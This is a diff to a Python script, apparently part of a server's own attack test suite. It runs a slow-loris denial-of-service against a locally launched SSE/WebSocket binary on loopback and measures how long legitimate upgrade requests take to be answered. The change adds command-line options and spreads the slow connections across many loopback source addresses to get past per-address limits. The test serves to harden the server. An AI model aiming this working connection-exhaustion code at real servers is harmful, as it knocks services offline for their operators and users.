@@ -1,22 +1,29 @@
-# Attack 16: slow-loris. N connections from 127.0.0.1 each send a request head one byte every
-# INTERVAL seconds (and reconnect when cut), while a legitimate client asks for a WebSocket
-# upgrade once a second, from 127.0.0.1 (the attacker's address) and from 127.0.0.2 (another
-# one); prints how long each took to be answered (101, or the refusal).
-# Usage: slow_loris.py SSEWS_BINARY [N=2000] [INTERVAL=5] [SECONDS=30] [--option k=v]...
+# Attack 16: slow-loris. N connections each send a request head one byte every INTERVAL seconds
+# (and reconnect when cut), from 127.0.0.1 or, with --addresses K, spread over K addresses
+# 127.0.1.1... (Linux routes all of 127/8 to loopback); meanwhile a legitimate client asks for a
+# WebSocket upgrade once a second from 127.0.0.1 and from 127.0.0.2, and the time each took to
+# be answered (101, or a refusal) is printed.
+# Usage: slow_loris.py SSEWS_BINARY [--connections N] [--interval S] [--seconds S] [--addresses K]
+#                      [--option key=value]...
+import argparse
 import selectors
 import socket
 import statistics
-import sys
 import time
 
 from serve import Server
 
-args = [a for a in sys.argv[2:] if "=" not in a or a.startswith("--")]
-extra = [a for a in sys.argv[2:] if "=" in a and not a.startswith("--")]
-n = int(args[0]) if len(args) > 0 else 2000
-interval = float(args[1]) if len(args) > 1 else 5.0
-seconds = float(args[2]) if len(args) > 2 else 30.0
-srv = Server(sys.argv[1], [x for kv in extra for x in ("--option", kv)])
+ap = argparse.ArgumentParser()
+ap.add_argument("binary")
+ap.add_argument("--connections", type=int, default=2000)
+ap.add_argument("--interval", type=float, default=5.0)
+ap.add_argument("--seconds", type=float, default=30.0)
+ap.add_argument("--addresses", type=int, default=1)
+ap.add_argument("--option", action="append", default=[])
+a = ap.parse_args()
+n, interval, seconds = a.connections, a.interval, a.seconds
+srv = Server(a.binary, [x for kv in a.option for x in ("--option", kv)])
+sources = ["127.0.0.1"] if a.addresses == 1 else [f"127.0.{1 + i // 250}.{1 + i % 250}" for i in range(a.addresses)]
 
 HEAD = b"GET /c HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000 + b"\r\n\r\n"
 sel = selectors.DefaultSelector()
@@ -24,8 +31,14 @@ slow = {}  # socket -> bytes sent
 cuts = 0
 
 
+opened = 0
+
+
 def open_slow():
+    global opened
     s = socket.socket()
+    s.bind((sources[opened % len(sources)], 0))
+    opened += 1
     s.setblocking(False)
     try:
         s.connect(("127.0.0.1", srv.port))
@@ -92,7 +105,8 @@ while time.monotonic() - start < seconds:
         next_probe = time.monotonic() + 1
     time.sleep(0.05)
 
-print(f"{n} slow connections, 1 byte every {interval:g} s, {seconds:g} s; {cuts} cut by the server; "
+print(f"{n} slow connections from {len(sources)} address(es), 1 byte every {interval:g} s, {seconds:g} s; "
+      f"{cuts} cut by the server; "
       f"server RSS {srv.rss_kb()} kB")
 for src, ts in times.items():
     if ts:
